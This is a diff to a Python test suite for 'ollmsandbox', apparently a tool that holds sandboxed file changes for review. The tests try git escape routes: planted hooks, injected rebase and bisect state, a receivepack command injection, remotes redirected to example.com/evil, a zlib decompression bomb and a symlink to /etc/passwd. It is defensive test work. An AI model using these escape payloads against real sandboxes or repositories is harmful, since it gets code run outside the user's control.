@@ -4,31 +4,19 @@ somewhere else, or show other content for the same commit."""
 
 from __future__ import annotations
 
+from collections.abc import Mapping
 from pathlib import Path
 
 import pytest
-from support.escape.copy_back import settle
+from support.escape.copy_back import in_each, of_each, settle
+from support.escape.repositories import COMMIT, copies, git, held, is_planted, make_checkout
 from support.person import Person
 
-from ollmsandbox.project.change import Kind, Report, State
+from ollmsandbox.project.change import Kind
 
-pytestmark = pytest.mark.anybody
+pytestmark = pytest.mark.ordinary
 
 HARM = "#!/bin/sh\\ntouch ~/planted\\n"
-COMMIT = "git -c user.name=me -c user.email=me@example.org commit -q"
-
-
-def git(person: Person, command: str, folder: Path | None = None) -> str:
-    """Run commands as the user does, without a sandbox; their failures are part of the story."""
-    environ = person.environ | {"GIT_EDITOR": "true"}
-    return person.run_outside(command, cwd=folder or person.project, env=environ).stdout
-
-
-def held(report: Report) -> set[str]:
-    assert not report.errors
-    for item in report.changes:
-        assert (item.state is State.PENDING) == item.is_held, item
-    return {item.change.path for item in report.changes if item.is_held}
 
 
 def attack(person: Person, command: str) -> set[str]:
@@ -40,21 +28,18 @@ def attack(person: Person, command: str) -> set[str]:
     return held(report)
 
 
-def is_planted(person: Person) -> bool:
-    return (person.home / "planted").exists()
-
-
 @pytest.fixture
 def checkout(person: Person) -> Path:
-    """A repository with two commits; its objects are loose."""
-    (person.home / ".gitconfig").write_text("[user]\nname = me\nemail = me@example.org\n")
-    git(
-        person,
-        "git init -q -b main; echo right >file; mkdir tools; echo x >tools/x; git add .;"
-        "git commit -qm first; echo more >>file; git commit -qam second; git branch other HEAD~1",
-    )
-    assert git(person, "git log --format=%s") == "second\nfirst\n"
-    return person.project
+    return make_checkout(person, person.project)
+
+
+def attack_each(person: Person, commands: Mapping[str, str]) -> dict[str, set[str]]:
+    """Run each command in its folder, all in one sandbox; return what is held in each."""
+    harmless = f"echo x >new; git add new; {COMMIT} -m x"
+    waiting = attack(person, in_each([*commands.values(), harmless]))
+    found = of_each([*commands, "harmless"], waiting)
+    assert found.pop("harmless") == set()
+    return found
 
 
 # --- where a push leads ---
@@ -80,49 +65,51 @@ ADDRESSES = {
 }
 
 
-@pytest.mark.parametrize("name", ADDRESSES)
 @pytest.mark.parametrize("key", ["url", "pushurl"])
-def test_a_push_to_a_repository_of_the_command_s(person: Person, name: str, key: str) -> None:
-    place, address = ADDRESSES[name]
-    outside = person.playground
-    address = address.replace("OUTSIDE", str(outside)).replace("HOME", str(person.home))
-    make = EVIL.replace("DIR", place).replace("\n", "; ").strip("; ")
-    command = f"{make}; ln -s {outside} link; git init -q -b main sub; cd sub;"
-    command += f"{COMMIT} --allow-empty -m x; "
-    command += f'printf \'[remote "origin"]\\n\\t{key} = %s\\n\' "{address}" >>.git/config'
-    waiting = attack(person, command.replace("$PWD", str(person.project)))
-    assert "sub/.git/config" in waiting
-    soon = person.home / "soon"
+def test_a_push_to_a_repository_of_the_command_s(person: Person, key: str) -> None:
+    outside, soon = person.playground, person.home / "soon"
+    folders = copies(person, ADDRESSES)
+    commands = {}
+    for name, (place, address) in ADDRESSES.items():
+        address = address.replace("OUTSIDE", str(outside)).replace("HOME", str(person.home))
+        make = EVIL.replace("DIR", place).replace("\n", "; ").strip("; ")
+        command = f"{make}; ln -s {outside} link; git init -q -b main sub; cd sub;"
+        command += f"{COMMIT} --allow-empty -m x; "
+        command += f'printf \'[remote "origin"]\\n\\t{key} = %s\\n\' "{address}" >>.git/config'
+        commands[name] = command.replace("$PWD", str(folders[name]))
+    waiting = attack_each(person, commands)
     soon.mkdir()
-    if (outside / "evil").exists():
-        (soon / "evil").symlink_to(outside / "evil")
-    git(person, "git -c protocol.ext.allow=always push origin main", person.project / "sub")
-    assert not is_planted(person)
+    (soon / "evil").symlink_to(outside / "evil")
+    for name in ADDRESSES:
+        assert "sub/.git/config" in waiting[name], name
+        push = "git -c protocol.ext.allow=always push origin main"
+        git(person, push, folders[name] / "sub")
+        assert not is_planted(person), name
 
 
-@pytest.mark.parametrize(
-    "setting",
-    [
-        "remote set-url --add origin ssh://example.com/evil",
-        "remote set-url --push origin ssh://example.com/evil",
-        "remote set-url origin ssh://example.com/evil",
-        "remote add evil ssh://example.com/evil",
-        "config url.ssh://example.com/.insteadOf ssh://example.org/",
-        "config url.ssh://example.com/.pushInsteadOf ssh://example.org/",
-        "config branch.main.remote ssh://example.com/evil",
-        "config branch.main.pushRemote ssh://example.com/evil",
-        "config remote.pushDefault ssh://example.com/evil",
-        "config remote.origin.receivepack 'touch ~/planted;'",
-        "config push.default matching",
-    ],
+SETTINGS = (
+    "remote set-url --add origin ssh://example.com/evil",
+    "remote set-url --push origin ssh://example.com/evil",
+    "remote set-url origin ssh://example.com/evil",
+    "remote add evil ssh://example.com/evil",
+    "config url.ssh://example.com/.insteadOf ssh://example.org/",
+    "config url.ssh://example.com/.pushInsteadOf ssh://example.org/",
+    "config branch.main.remote ssh://example.com/evil",
+    "config branch.main.pushRemote ssh://example.com/evil",
+    "config remote.pushDefault ssh://example.com/evil",
+    "config remote.origin.receivepack 'touch ~/planted;'",
+    "config push.default matching",
 )
-def test_a_second_address_of_a_remote(person: Person, checkout: Path, setting: str) -> None:
-    git(
-        person, "git remote add origin ssh://example.org/mine; git config branch.main.remote origin"
-    )
-    before = (checkout / ".git/config").read_text()
-    assert attack(person, f"git {setting}") == {".git/config"}
-    assert (checkout / ".git/config").read_text() == before
+
+
+def test_a_second_address_of_a_remote(person: Person) -> None:
+    prepare = "git remote add origin ssh://example.org/mine; git config branch.main.remote origin"
+    folders = copies(person, SETTINGS, prepare)
+    before = {name: (folder / ".git/config").read_text() for name, folder in folders.items()}
+    waiting = attack_each(person, {name: f"git {name}" for name in SETTINGS})
+    assert waiting == {name: {".git/config"} for name in SETTINGS}
+    for name, folder in folders.items():
+        assert (folder / ".git/config").read_text() == before[name]
 
 
 # --- a worktree that the same command adds ---
@@ -194,23 +181,42 @@ OBJECTS = {
     "a hard link": "write('ab' * 20, b'x'); os.link(path('ab' * 20), 'evil')",
     "a replaced commit": "write(git('rev-parse', 'HEAD~1'), git('cat-file', '-p', 'HEAD~1')"
         ".replace('first', 'wrong').encode(), b'commit')",
-    "a file that unpacks for ever": "os.unlink(path(blob)); z = zlib.compressobj(9);"
-        "f = open(path(blob), 'wb'); [f.write(z.compress(bytes(1 << 24))) for n in range(40)];"
-        "f.write(z.flush())",
 }  # fmt: skip
+BOMB = """
+os.unlink(path(blob))
+z = zlib.compressobj(1)
+with open(path(blob), "wb") as file:
+    for _ in range(40):
+        file.write(z.compress(bytes(1 << 24)))
+    file.write(z.flush())
+"""
+SHOW = "git log -p; git status --porcelain"
 
 
-@pytest.mark.parametrize("name", OBJECTS)
-def test_loose_objects(
-    person: Person, checkout: Path, name: str, monkeypatch: pytest.MonkeyPatch
-) -> None:
-    (person.home / "x.py").write_text(LOOSE + OBJECTS[name])
-    before = git(person, "git log -p --all")
+def run_each(person: Person, codes: Mapping[str, str]) -> dict[str, str]:
+    """Write each program to the home folder; return the commands that run them."""
+    for number, code in enumerate(codes.values()):
+        (person.home / f"{number}.py").write_text(code)
+    return {name: f"python3 {person.home}/{n}.py" for n, name in enumerate(codes)}
+
+
+def test_loose_objects(person: Person) -> None:
+    folders = copies(person, OBJECTS)
+    commands = run_each(person, {name: LOOSE + code for name, code in OBJECTS.items()})
+    before = git(person, "git log -p --all", folders["a link"])
+    for name, waiting in attack_each(person, commands).items():
+        assert waiting and all(path.startswith(".git/objects/") for path in waiting), name
+        assert git(person, "git log -p --all", folders[name]) == before, name
+        assert "right" in git(person, "git show HEAD:file", folders[name]), name
+        assert git(person, "git fsck 2>&1; echo $?", folders[name]).endswith("0\n"), name
+
+
+def test_a_loose_object_that_unpacks_for_ever(person: Person, checkout: Path) -> None:
+    (person.home / "x.py").write_text(LOOSE + BOMB)
+    before = git(person, SHOW)
     waiting = attack(person, f"python3 {person.home}/x.py")
     assert waiting and all(path.startswith(".git/objects/") for path in waiting)
-    assert git(person, "git log -p --all") == before
-    assert "right" in git(person, "git show HEAD:file")
-    assert git(person, "git fsck 2>&1; echo $?").endswith("0\n")
+    assert git(person, SHOW) == before
 
 
 PACK = """
@@ -247,14 +253,16 @@ PACKS = {
 }  # fmt: skip
 
 
-@pytest.mark.parametrize("name", PACKS)
-def test_packs(person: Person, checkout: Path, name: str) -> None:
-    (person.home / "x.py").write_text(PACK + PACKS[name])
-    attack(person, f"python3 {person.home}/x.py")
-    assert git(person, "git show HEAD:file") == "right\nmore\n"
-    assert git(person, "git fsck --full 2>&1; echo $?").endswith("0\n")
-    settle(person, "rm -f .git/objects/pack/*.pack; touch done")
-    assert git(person, "git show HEAD:file") == "right\nmore\n"
+def test_packs(person: Person) -> None:
+    folders = copies(person, PACKS)
+    attack_each(person, run_each(person, {n: PACK + code for n, code in PACKS.items()}))
+    for name in PACKS:
+        assert git(person, "git show HEAD:file", folders[name]) == "right\nmore\n", name
+        found = git(person, "git fsck --full 2>&1; echo $?", folders[name])
+        assert found.endswith("0\n"), (name, found)
+    settle(person, "rm -f */.git/objects/pack/*.pack; touch done")
+    for name in PACKS:
+        assert git(person, "git show HEAD:file", folders[name]) == "right\nmore\n", name
 
 
 REPLACED = {
@@ -283,14 +291,14 @@ REPLACED = {
 }  # fmt: skip
 
 
-@pytest.mark.parametrize("name", REPLACED)
-def test_content_is_replaced(person: Person, checkout: Path, name: str) -> None:
-    before = git(person, "git log -p")
-    waiting = attack(person, REPLACED[name])
-    assert waiting or name == "a commit-graph"
-    assert git(person, "git log -p") == before
-    wrong = "M file" if "wrong" in REPLACED[name] else ""
-    assert wrong in git(person, "git status --porcelain")
+def test_content_is_replaced(person: Person) -> None:
+    folders = copies(person, REPLACED)
+    before = git(person, "git log -p", folders["grafts"])
+    for name, waiting in attack_each(person, REPLACED).items():
+        assert waiting or name == "a commit-graph", name
+        assert git(person, "git log -p", folders[name]) == before, name
+        wrong = "M file" if "wrong" in REPLACED[name] else ""
+        assert wrong in git(person, "git status --porcelain", folders[name]), name
 
 
 INDEX = """
@@ -316,18 +324,18 @@ INDEXES = {
 }  # fmt: skip
 
 
-@pytest.mark.parametrize("name", INDEXES)
-def test_a_changed_file_is_hidden(person: Person, checkout: Path, name: str) -> None:
+def test_a_changed_file_is_hidden(person: Person) -> None:
     # The change time and the inode cannot be foretold for certain; here they need not be.
-    git(person, "git config core.checkStat minimal; git config core.trustctime false")
+    prepare = "git config core.checkStat minimal; git config core.trustctime false"
+    folders = copies(person, INDEXES, prepare)
     end = 'open(".git/index", "wb").write(data + hashlib.sha1(data).digest())'
-    (person.home / "x.py").write_text(f"{INDEX}{INDEXES[name]}\n{end}\n")
-    attack(person, f"python3 {person.home}/x.py")
-    assert (checkout / "file").read_text() == "WRONG\nMORE\n"
-    assert "file" in git(person, "git status --porcelain")
-    assert "WRONG" in git(person, "git diff HEAD")
-    changes = git(person, "git diff; git diff --cached")
-    assert "WRONG" in changes
+    codes = {name: f"{INDEX}{code}\n{end}\n" for name, code in INDEXES.items()}
+    attack_each(person, run_each(person, codes))
+    for name in INDEXES:
+        assert (folders[name] / "file").read_text() == "WRONG\nMORE\n", name
+        assert "file" in git(person, "git status --porcelain", folders[name]), name
+        assert "WRONG" in git(person, "git diff HEAD", folders[name]), name
+        assert "WRONG" in git(person, "git diff; git diff --cached", folders[name]), name
 
 
 # --- lists of steps ---
@@ -350,34 +358,37 @@ STEPS = {
 }  # fmt: skip
 
 
-@pytest.mark.parametrize("name", STEPS)
-def test_steps_of_a_rebase(person: Person, checkout: Path, name: str) -> None:
+def test_steps_of_a_rebase(person: Person) -> None:
     stop = "git checkout -q other; echo clash >file; git commit -qam clash; echo y >y; git add y;"
-    git(person, f"{stop} git commit -qm y; git rebase main")
-    assert (checkout / STEP_LIST).exists()
-    assert attack(person, STEPS[name])
-    (checkout / "file").write_text("both\n")
-    git(person, "git add file; PATH=$PWD/bin:$PATH git rebase --continue")
-    assert not is_planted(person)
-    assert git(person, "git log --format=%s") == "y\nclash\nsecond\nfirst\n"
+    folders = copies(person, STEPS, f"{stop} git commit -qm y; git rebase main")
+    assert (folders["exec"] / STEP_LIST).exists()
+    waiting = attack_each(person, STEPS)
+    for name in STEPS:
+        assert waiting[name], name
+        (folders[name] / "file").write_text("both\n")
+        git(person, "git add file; PATH=$PWD/bin:$PATH git rebase --continue", folders[name])
+        assert not is_planted(person), name
+        said = git(person, "git log --format=%s", folders[name])
+        assert said == "y\nclash\nsecond\nfirst\n", name
 
 
-@pytest.mark.parametrize(
-    "state",
-    [
-        "mkdir .git/sequencer; echo 'exec touch ~/planted' >.git/sequencer/todo",
-        "mkdir .git/sequencer; printf '[options]\\n\\tgpg-sign = x\\n' >.git/sequencer/opts",
-        "mkdir .git/sequencer; printf '[options]\\n\\tstrategy = x/y\\n' >.git/sequencer/opts",
-        "mkdir .git/rebase-apply; echo \"'--directory=..'\" >.git/rebase-apply/apply-opt",
-        "mkdir .git/rebase-merge; echo 'exec touch ~/planted' >.git/rebase-merge/git-rebase-todo",
-        "echo \"'; touch ~/planted; '\" >.git/BISECT_NAMES",
-        "echo '--exec=x' >.git/BISECT_START",
-        "echo '$(touch ~/planted)' >.git/BISECT_LOG",
-        "echo x >.git/BISECT_RUN",
-    ],
+STATES = (
+    "mkdir .git/sequencer; echo 'exec touch ~/planted' >.git/sequencer/todo",
+    "mkdir .git/sequencer; printf '[options]\\n\\tgpg-sign = x\\n' >.git/sequencer/opts",
+    "mkdir .git/sequencer; printf '[options]\\n\\tstrategy = x/y\\n' >.git/sequencer/opts",
+    "mkdir .git/rebase-apply; echo \"'--directory=..'\" >.git/rebase-apply/apply-opt",
+    "mkdir .git/rebase-merge; echo 'exec touch ~/planted' >.git/rebase-merge/git-rebase-todo",
+    "echo \"'; touch ~/planted; '\" >.git/BISECT_NAMES",
+    "echo '--exec=x' >.git/BISECT_START",
+    "echo '$(touch ~/planted)' >.git/BISECT_LOG",
+    "echo x >.git/BISECT_RUN",
 )
-def test_state_that_git_would_follow(person: Person, checkout: Path, state: str) -> None:
-    assert attack(person, state)
+
+
+def test_state_that_git_would_follow(person: Person) -> None:
+    copies(person, STATES)
+    waiting = attack_each(person, {state: state for state in STATES})
+    assert [state for state in STATES if not waiting[state]] == []
 
 
 # --- what an installed hook runs ---
@@ -401,28 +412,30 @@ HOOKS = {
 
 
 @pytest.mark.parametrize("is_new", [True, False])
-@pytest.mark.parametrize("name", HOOKS)
-def test_what_a_hook_runs(person: Person, checkout: Path, name: str, is_new: bool) -> None:
-    text, path, script = HOOKS[name]
-    folder = checkout / (path or ".git/hooks")
-    folder.mkdir(parents=True, exist_ok=True)
-    (folder / "pre-commit").write_text(
-        f"#!/bin/sh\n{text}\n".replace("\\n", "\n").replace("\\\\", "\\")
-    )
-    (folder / "pre-commit").chmod(0o755)
-    (checkout / script).parent.mkdir(parents=True, exist_ok=True)
-    if path:
-        git(person, f"git config core.hooksPath {path}")
-    if not is_new:
-        (checkout / script).write_text("#!/bin/sh\n")
-        (checkout / script).chmod(0o755)
-    plant = f"printf '#!/bin/sh\\ntouch ~/planted\\n' >{script}; chmod +x {script}; mkdir src;"
-    assert attack(person, f"{plant} echo x >src/main.c; echo x >new") == {script}
-    git(person, "git add new; git commit -m x")
-    assert not is_planted(person)
-    # The attack would work.
-    git(person, plant + "git commit --allow-empty -m x")
-    assert is_planted(person)
+def test_what_a_hook_runs(person: Person, is_new: bool) -> None:
+    folders, plants = copies(person, HOOKS), {}
+    for name, (text, path, script) in HOOKS.items():
+        hook = folders[name] / (path or ".git/hooks") / "pre-commit"
+        hook.parent.mkdir(parents=True, exist_ok=True)
+        hook.write_text(f"#!/bin/sh\n{text}\n".replace("\\n", "\n").replace("\\\\", "\\"))
+        hook.chmod(0o755)
+        file = folders[name] / script
+        file.parent.mkdir(parents=True, exist_ok=True)
+        if path:
+            git(person, f"git config core.hooksPath {path}", folders[name])
+        if not is_new:
+            file.write_text("#!/bin/sh\n")
+            file.chmod(0o755)
+        plants[name] = f"printf '{HARM}' >{script}; chmod +x {script}; mkdir src;"
+    others = "echo x >src/main.c; echo x >new"
+    waiting = attack_each(person, {n: f"{plant} {others}" for n, plant in plants.items()})
+    assert waiting == {name: {script} for name, (_, _, script) in HOOKS.items()}
+    for name, plant in plants.items():
+        git(person, "git add new; git commit -m x", folders[name])
+        assert not is_planted(person), name
+        # The attack would work.
+        git(person, f"{plant} git commit --allow-empty -m x", folders[name])
+        assert is_planted(person), name
 
 
 def test_a_hook_that_only_names_the_sources(person: Person, checkout: Path) -> None:
@@ -455,27 +468,28 @@ DATA = {
 
 
 @pytest.mark.parametrize("name", DATA)
-def test_data_that_cannot_be_judged(person: Person, checkout: Path, name: str) -> None:
-    before = git(person, "git log -p; git status --porcelain")
+def test_data_that_cannot_be_judged(person: Person, name: str) -> None:
+    copies(person, PLACES)
+    show = in_each([SHOW] * len(PLACES))
+    commands = {}
     for place in PLACES:
         file = f"'.git/{place}'"
-        if name == "a sparse file":
-            make = f"rm -f {file}; truncate -s 20G {file}"
-        else:
-            make = f"rm -f {file}; {DATA[name]} >{file}"
-        waiting = attack(person, f'mkdir -p "$(dirname {file})"; {make}; true')
-        assert f".git/{place}" in waiting, place
-        person.cli("changes")
-        assert person.cli("discard").returncode == 0
-    assert git(person, "git log -p; git status --porcelain") == before
+        make = f"{DATA[name]} >{file}" if DATA[name] else f"truncate -s 20G {file}"
+        commands[place] = f'mkdir -p "$(dirname {file})"; rm -f {file}; {make}; true'
+    before = git(person, show)
+    waiting = attack_each(person, commands)
+    assert [place for place in PLACES if f".git/{place}" not in waiting[place]] == []
+    person.cli("changes")
+    assert person.cli("discard").returncode == 0
+    assert git(person, show) == before
 
 
 @pytest.mark.parametrize("kind", ["ln -sf /etc/passwd", "mkfifo", "mkdir"])
 def test_other_kinds_of_files(person: Person, checkout: Path, kind: str) -> None:
-    before = git(person, "git log -p; git status --porcelain")
+    before = git(person, SHOW)
     make = "; ".join(
         f"mkdir -p \"$(dirname '.git/{place}')\"; rm -rf '.git/{place}'; {kind} '.git/{place}'"
         for place in PLACES
     )
     attack(person, make)
-    assert git(person, "git log -p; git status --porcelain") == before
+    assert git(person, SHOW) == before
